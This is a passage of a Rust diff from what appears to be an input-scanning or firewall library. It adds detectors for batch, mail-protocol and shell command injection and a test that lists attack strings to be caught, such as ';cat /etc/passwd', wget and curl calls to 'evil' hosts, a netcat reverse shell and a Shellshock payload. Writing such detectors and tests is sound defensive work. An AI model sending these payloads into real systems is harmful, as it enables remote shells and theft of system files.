+        if at_boundary && seg.starts_with(b"if") && words(&seg[2..]) {
+            let mut r = seg[2..].trim_ascii_start();
+            for opt in [&b"/i"[..], b"not"] {
+                if let Some(x) = r.strip_prefix(opt) {
+                    if x.first().is_none_or(|c| !is_word(*c)) {
+                        r = x.trim_ascii_start();
+                    }
+                }
+            }
+            for kw in [&b"exist"[..], b"defined", b"errorlevel", b"cmdextversion"] {
+                if r.starts_with(kw) && r.get(kw.len()).is_some_and(|c| c.is_ascii_whitespace()) {
+                    return Some("rce-windows-batch");
+                }
+            }
+            // A comparison between two operands, then a command: `if %a%==b echo`, `if "x" equ "y"`.
+            let head = &r[..r.len().min(80)];
+            if crate::find(head, b"==").is_some() {
+                return Some("rce-windows-batch");
+            }
+            for op in [
+                &b" equ "[..],
+                b" neq ",
+                b" lss ",
+                b" leq ",
+                b" gtr ",
+                b" geq ",
+            ] {
+                if crate::find(head, op).is_some() {
+                    return Some("rce-windows-batch");
+                }
+            }
+        }
+        from += 1;
+        match memchr::memchr2(b'f', b'i', &t[from..]) {
+            Some(p) => from += p,
+            None => break,
+        }
+    }
+    None
+}
+
+/// Mail protocol injection: a line break in a value followed by an SMTP, IMAP or POP3 command.
+fn mail_protocol(t: &[u8]) -> Option<&'static str> {
+    const SMTP: &[&[u8]] = &[
+        b"mail from:",
+        b"rcpt to:",
+        b"ehlo ",
+        b"helo ",
+        b"data\r",
+        b"data\n",
+        b"auth login",
+        b"auth plain",
+        b"starttls",
+        b"vrfy ",
+        b"expn ",
+    ];
+    const IMAP: &[&[u8]] = &[
+        b"login",
+        b"authenticate",
+        b"select",
+        b"examine",
+        b"status",
+        b"append",
+        b"store",
+        b"fetch",
+        b"uid",
+        b"capability",
+        b"lsub",
+        b"expunge",
+        b"logout",
+        b"noop",
+        b"create",
+        b"delete",
+        b"rename",
+        b"subscribe",
+        b"list",
+    ];
+    const POP3: &[&[u8]] = &[b"retr ", b"dele ", b"stat\r", b"uidl", b"apop ", b"quit\r"];
+    let mut from = 0;
+    while let Some(p) = memchr::memchr(b'\n', &t[from..]) {
+        let line = &t[from + p + 1..];
+        from += p + 1;
+        let blanks = line
+            .iter()
+            .take(16)
+            .take_while(|&&c| c == b' ' || c == b'\t')
+            .count();
+        let line = &line[blanks..];
+        if SMTP.iter().any(|c| line.starts_with(c)) || POP3.iter().any(|c| line.starts_with(c)) {
+            return Some("rce-mail-injection");
+        }
+        // IMAP: a short tag, a blank, a command.
+        let tag = line
+            .iter()
+            .take_while(|c| c.is_ascii_alphanumeric())
+            .count();
+        // IMAP tags carry a digit (`a001`); prose lines starting with a word do not.
+        let tagged = line[..tag].iter().any(|c| c.is_ascii_digit());
+        if (1..=8).contains(&tag) && tagged && line.get(tag) == Some(&b' ') {
+            let cmd = &line[tag + 1..];
+            if let Some(c) = IMAP.iter().find(|c| cmd.starts_with(c)) {
+                if cmd
+                    .get(c.len())
+                    .is_none_or(|&x| x == b' ' || x == b'\r' || x == b'\n')
+                {
+                    return Some("rce-mail-injection");
+                }
+            }
+        }
+    }
+    None
+}
+
+/// Whether the first word of `arg` is a URL, a host name or an address (`curl evil.com`).
+fn looks_like_host(arg: &[u8]) -> bool {
+    let w = &arg[..arg
+        .iter()
+        .position(|c| c.is_ascii_whitespace())
+        .unwrap_or(arg.len())];
+    if crate::find(w, b"://").is_some() {
+        return true;
+    }
+    let labels = w.split(|&c| c == b'.' || c == b':').collect::<Vec<_>>();
+    labels.len() >= 2
+        && labels
+            .iter()
+            .all(|l| !l.is_empty() && l.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'-'))
+        && labels.last().is_some_and(|l| {
+            l.len() >= 2
+                && (l.iter().all(|c| c.is_ascii_alphabetic())
+                    || l.iter().all(|c| c.is_ascii_digit()))
+        })
+}
+
+const SHELL_VARS: [&[u8]; 6] = [
+    b"${ifs",
+    b"$ifs",
+    b"$shell",
+    b"${shell}",
+    b"${path:",
+    b"$bash_",
+];
+
+const BIN_DIRS: [&[u8]; 5] = [
+    b"/bin/",
+    b"/sbin/",
+    b"/usr/bin/",
+    b"/usr/sbin/",
+    b"/usr/local/bin/",
+];
+
+/// `ca?`, `c*t`, `/???/c?t`: a shell glob that could stand for a strong command.
+fn glob_matches_command(word: &[u8]) -> bool {
+    let wild = word.iter().filter(|&&c| c == b'?' || c == b'*').count();
+    if wild == 0 || wild > 3 || word.len() < 2 || word.len() > 12 {
+        return false;
+    }
+    let letters = word.iter().filter(|c| c.is_ascii_alphabetic()).count();
+    letters >= 1 && STRONG_COMMANDS.iter().any(|c| glob(word, c.as_bytes()))
+}
+
+fn glob(p: &[u8], s: &[u8]) -> bool {
+    match (p.first(), s.first()) {
+        (None, None) => true,
+        (Some(b'*'), _) => glob(&p[1..], s) || (!s.is_empty() && glob(p, &s[1..])),
+        (Some(b'?'), Some(_)) => glob(&p[1..], &s[1..]),
+        (Some(b'['), Some(_)) => match p.iter().position(|&c| c == b']') {
+            Some(e) => p[1..e].contains(&s[0]) && glob(&p[e + 1..], &s[1..]),
+            None => false,
+        },
+        (Some(a), Some(b)) => a == b && glob(&p[1..], &s[1..]),
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::Rules;
+
+    fn l(s: &str) -> Vec<u8> {
+        s.to_ascii_lowercase().into_bytes()
+    }
+
+    #[test]
+    fn rce() {
+        let r = Rules::new();
+        let mut t = Vec::new();
+        for a in [
+            ";cat /etc/passwd",
+            "x;id",
+            "| whoami",
+            "&& wget http://evil/x.sh",
+            "$(curl evil.com)",
+            "`id`",
+            "/bin/sh -c id",
+            "www.google.com;/bin/ca? /et*/passwd",
+            "() { :;}; /bin/bash -c id",
+            ";c\\at /etc/passwd",
+            "x;c''at /etc/hosts",
+            ";{cat,/etc/passwd}",
+            "Invoke-WebRequest http://example.com/x.ps1",
+            "; nc -e /bin/sh 10.0.0.1 4444",
+            "wget http://evil/x",
+        ] {
+            assert!(
+                r.rce(&l(a), None, crate::chars::summary(&l(a)), &mut t)
+                    .is_some(),
+                "missed: {a}"
+            );
+        }
+        for b in [
+            "Tom & Jerry",
+            "Fish & chips; more info",
+            "Dog & Cat Food",
+            "black; white; red",
+            "rock|paper|scissors",
+            "Sleep well & time flies",
+            "Price: $(5) off",
+            "I want to find the best shoes",
+            "cat toy",
+            "R&D department; head office",
+            "Q&A",
+        ] {
+            assert_eq!(
+                r.rce(&l(b), None, crate::chars::summary(&l(b)), &mut t),
+                None,
+                "false positive: {b}"
+            );
+        }
+    }
+}
